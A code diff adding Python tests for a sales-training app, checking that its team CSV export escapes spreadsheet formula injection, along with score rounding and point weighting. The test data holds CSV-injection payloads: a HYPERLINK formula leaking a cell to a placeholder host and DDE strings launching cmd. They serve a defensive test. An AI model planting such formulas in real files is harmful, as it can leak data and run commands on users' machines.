@@ -335,3 +335,61 @@ def test_team_rates_use_each_sellers_latest_reviewed_take(cstore: Store,
     set_override(cstore, library, ana_take, "engaging_delivery", True, "Lively", "M")
     rates = {r.fundamental.id: r for r in team_rates(cstore, library)}
     assert rates["value_prop"].rate == 1.0 and rates["engaging_delivery"].rate == 1.0
+
+
+# -- the CSV is safe to open in a spreadsheet ----------------------------------------------
+HOSTILE_CELLS = ('=HYPERLINK("http://x.example/?leak="&A1,"y")', "+cmd|' /C calc'!A0",
+                 "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "\uff1dSUM(A1)")
+
+
+@pytest.mark.parametrize("name", HOSTILE_CELLS)
+def test_the_team_csv_never_starts_a_cell_with_a_formula(
+        cstore: Store, library: DrillLibrary, tmp_path: Path, name: str) -> None:
+    session = start_one_on_one(cstore, name, "=cmd|' /C notepad'!A0")
+    certify(cstore, library, session.id, take(cstore, library, session.seller, session.context))
+    path = export_team_csv(cstore, library, tmp_path / "team.csv")
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        rows = [dict(zip(CSV_HEADER, r, strict=True)) for r in list(csv.reader(f))[1:]]
+    vp = next(r for r in rows if r["drill"] == "value_prop")
+    # The text as typed, behind the quote a spreadsheet shows as "text, not a formula".
+    assert vp["seller"] == "'" + name and vp["manager"] == "'=cmd|' /C notepad'!A0"
+    assert vp["latest_score"] == "69.6" and vp["certificates"] == "1"  # numbers stay numbers
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), row
+
+
+def test_csv_cells_follow_the_owasp_rule_and_keep_numbers() -> None:
+    from trainer.formatting import csv_cell
+
+    for text in ("=1+2", "+1", "-1", "@x", "\tx", "\rx"):
+        assert csv_cell(text) == "'" + text
+    for text in ("Ana Lopez", "O'Brien", "1-2", "", " =not at the start"):
+        assert csv_cell(text) == text
+    # Numbers we write ourselves are numbers, a negative one included; None is empty.
+    assert [csv_cell(v) for v in (-3, -2.5, 69.6, 100.0, 0, None)] == [
+        "-3", "-2.5", "69.6", "100", "0", ""]
+
+
+def test_one_rounding_rule_for_scores_and_one_for_weights() -> None:
+    from trainer.formatting import format_score, weight_points
+
+    # Whole points, half up; never a rounded number on the wrong side of the pass mark.
+    assert [format_score(s) for s in (73.9, 73.5, 73.4, 87.0, 0.0, 100.0)] == [
+        "74", "74", "73", "87", "0", "100"]
+    assert format_score(69.6, 70) == "69.6" and format_score(69.96, 70) == "69.9"
+    assert format_score(69.4, 70) == "69" and format_score(70.0, 70) == "70"
+    assert format_score(73.9, 70) == "74" and format_score(70.4, 70.3) == "70.4"
+    # The brief's points: 25/15/25/15/20/15 (115) is 22/13/22/13/17/13, always 100 in all.
+    assert weight_points([25, 15, 25, 15, 20, 15]) == [22, 13, 22, 13, 17, 13]
+    assert sum(weight_points([1, 1, 1])) == 100 and weight_points([0, 0]) == [0, 0]
+
+
+def test_a_review_shows_its_score_and_points_as_the_brief_does(
+        cstore: Store, library: DrillLibrary) -> None:
+    session = start_one_on_one(cstore, "Ben Okafor", "Maria Chen")
+    r = review(cstore, library, take(cstore, library, session.seller, session.context))
+    assert (r.score, r.passed, r.score_text) == (69.6, False, "69.6")  # not "70 NOT YET"
+    assert [c.points for c in r.criteria] == [22, 13, 22, 13, 17, 13]
+    overridden = set_override(cstore, library, r.attempt_id, "proof", True, "heard", "M")
+    assert (overridden.score_text, overridden.app_score_text) == ("83", "69.6")
